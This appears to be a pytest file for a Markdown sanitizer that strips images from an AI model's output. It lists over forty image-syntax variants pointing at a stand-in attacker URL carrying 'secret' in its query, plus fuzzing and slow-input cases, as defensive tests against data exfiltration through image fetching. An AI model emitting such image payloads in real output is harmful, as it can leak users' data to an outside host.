"""A model's Markdown: no image survives in any form, and the rest reads as it was meant."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from phi3core.markdown import safe_markdown

BAIT = "http://evil.example/?q=secret"

IMAGES = {
    "inline": f"![x]({BAIT})",
    "inline without a word": f"![]({BAIT})",
    "in a sentence": f"See ![x]({BAIT}) there.",
    "with a title": f'![x]({BAIT} "title")',
    "in angle brackets": f"![x](<{BAIT}>)",
    "with spaces": f"![x](  {BAIT}  )",
    "over two lines": f"![x\ny]({BAIT})",
    "address on the next line": f"![x](\n{BAIT}\n)",
    "reference": f"![x][ref]\n\n[ref]: {BAIT}",
    "collapsed reference": f"![ref][]\n\n[ref]: {BAIT}",
    "shortcut reference": f"![ref]\n\n[ref]: {BAIT}",
    "reference defined before": f"[ref]: {BAIT}\n\n![ref]",
    "nested brackets": f"![a [b] c]({BAIT})",
    "image in an image": f"![a ![b]({BAIT}) c]({BAIT})",
    "in a link": f"[![x]({BAIT})](http://good.example)",
    "in a list": f"- one\n- ![x]({BAIT})",
    "in a table": f"| a |\n|---|\n| ![x]({BAIT}) |",
    "in a heading": f"# ![x]({BAIT})",
    "in a quote": f"> ![x]({BAIT})",
    "in emphasis": f"**![x]({BAIT})**",
    "escaped once": f"\\![x]({BAIT})",
    "escaped twice": f"\\\\![x]({BAIT})",
    "escaped twice, nested": f"\\\\![a [b]]({BAIT})",
    "two exclamation marks": f"!![x]({BAIT})",
    "two in a row": f"![x]({BAIT})![y]({BAIT})",
    "after an open code span": f"` ![x]({BAIT})",
    "between unequal backticks": f"`` ` ![x]({BAIT}) ` `",
    "after an escaped backtick": f"\\` ![x]({BAIT}) `",
    "code span over two lines": f"`a\nb` ![x]({BAIT}) `c\nd`",
    "code span that ends a paragraph": f"`open\n\n![x]({BAIT}) `",
    "exclamation and bracket parted by a code span": f"`a`![x]({BAIT})`b`",
    "a fence in an HTML comment": f"<!--\n```\n-->\n![x]({BAIT})",
    "a fence in an HTML block": f"<div>\n```\n</div>\n\n![x]({BAIT})\n```",
    "a fence that is none": f"``` a`b\n![x]({BAIT})\n```",
    "after an unclosed fence of another kind": f"~~~\n```\n~~~\n![x]({BAIT})",
    "indented, after a paragraph": f"text\n    ![x]({BAIT})",
    "indented, in a list": f"- a\n\n    ![x]({BAIT})",
    "behind a carriage return": f"```\r\n```\r![x]({BAIT})",
    "behind a form feed": f"a\x0c![x]({BAIT})",
    "behind a line separator": f"```\u2028```\n![x]({BAIT})",
    "behind a null": f"!\x00[x]({BAIT})",
    "entities": f"&#33;[x]({BAIT}) &excl;[x]({BAIT})",
    "a footnote": f"[^1]\n\n[^1]: ![x]({BAIT})",
    "in a formula": f"$![x]({BAIT})$ $$![x]({BAIT})$$",
}


def fetched(text: str) -> list[str]:
    """The images that a renderer would fetch, by each of the dialects a page may be drawn with."""
    found = []
    for dialect in (
        MarkdownIt("commonmark"),
        MarkdownIt("gfm-like", {"linkify": False}),
        MarkdownIt("js-default", {"linkify": False}),
    ):
        queue = list(dialect.parse(text))
        while queue:
            token = queue.pop()
            queue += token.children or []
            if token.type == "image":
                found.append(str(token.attrs.get("src")))
    return found


@pytest.mark.parametrize("form", IMAGES)
def test_no_image_survives(form: str) -> None:
    assert fetched(safe_markdown(IMAGES[form])) == []
    assert "![" not in safe_markdown(IMAGES[form])


def test_the_bait_would_be_fetched_without_us() -> None:
    """The forms above are not harmless by themselves: most of them make an image unless safe_markdown defuses them."""
    live = [form for form, text in IMAGES.items() if fetched(text)]
    assert len(live) > len(IMAGES) / 2, live


def test_no_arrangement_of_the_dangerous_characters_makes_an_image() -> None:
    """Every text of seven pieces, each one an ingredient of an image or of what could hide one."""
    import random

    chance = random.Random(3)
    pieces = ["!", "[", "]", "(u)", "![x](u)", "`", "``", "\\", "\n", "\n\n", "```\n", "    ", "<!--", "-->", "$", "x"]
    for _ in range(3000):
        text = "".join(chance.choices(pieces, k=chance.randint(2, 10)))
        assert fetched(safe_markdown(text)) == [], text


def test_an_image_becomes_a_link_that_shows_its_target() -> None:
    assert safe_markdown("See ![a cat](http://x.example/cat.png)!") == (
        "See [image: a cat (http://x.example/cat.png)](http://x.example/cat.png)!"
    )
    assert "image: untitled" in safe_markdown("![](http://x.example/cat.png)")


@pytest.mark.parametrize(
    "text",
    [
        "Plain text, **bold**, _italic_ and a [link](http://good.example).",
        "Hello! [Read this](http://good.example)",
        "1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nif not x[0] != y[1]:\n    print('$5')\n```",
        "Use `a[0]` and `x != [1]`, or `$HOME`.",
        "    indented = [code]",
        "Where $x^2$ is meant.",
        "Ünïcödé … “quotes” 🙂",
        "",
        "\n\n",
        "a\r\nb",
    ],
)
def test_what_holds_no_image_is_left_alone(text: str) -> None:
    assert safe_markdown(text) == text


def test_code_reads_as_it_was_written() -> None:
    """An invisible character parts “!” from “[” in code; the rest is the same, dollars too."""
    code = "```sh\necho ![x](http://a) $5\n```\nand `![y](http://b) $6`"
    shown = safe_markdown(code)
    assert shown.replace("\u2060", "") == code
    assert "image:" not in shown


def test_prices_are_no_formula() -> None:
    assert safe_markdown("It costs $5, or $10 for two.") == "It costs \\$5, or \\$10 for two."
    assert safe_markdown("It costs \\$5.") == "It costs \\$5."


@pytest.mark.parametrize("text", ["![a](" * 20_000, "![" * 20_000, "![](" + " " * 50_000])
def test_text_made_to_be_slow_is_defused_all_the_same(text: str) -> None:
    assert "![" not in safe_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        ":green-badge[in Production]",
        "a:red[b]",
        ":material/verified: approved",
        "::red[x]",
        ":streamlit:",
        "`open\nclosed` :green-badge[z] `",
        ":small{.x}",
        "[a :gray-badge[b]](http://good.example)",
    ],
)
def test_no_badge_colour_or_icon_of_the_app_s_own_is_drawn(text: str) -> None:
    shown = safe_markdown(text)
    assert not re.search(r":(material/|streamlit:|[a-z-]+[\[{])", shown)
    assert shown.replace("\u2060", "") == text
